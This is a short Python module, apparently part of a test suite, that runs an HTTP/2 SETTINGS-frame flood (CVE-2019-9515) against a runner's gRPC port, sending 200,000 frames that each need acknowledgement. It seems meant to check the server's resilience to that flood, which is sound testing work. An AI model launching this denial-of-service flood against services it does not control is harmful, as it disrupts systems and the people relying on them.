"""Frames of the kind SETTINGS, as fast as they are taken."""

from __future__ import annotations

from tests.support.http2 import SETTINGS, Peer, frame

from ._flood import flood
from ._row import Row

ABOUT = "sends 200 000 settings that have to be acknowledged (CVE-2019-9515)"
FRAME = frame(SETTINGS)


def run(address: str, *, count: int = 200_000, seconds: float = 20.0) -> Row:
    """Attack the gRPC port of a runner."""
    return flood("settings-flood", address, one_frame, count=count, seconds=seconds)


def one_frame(peer: Peer) -> bytes:
    return FRAME
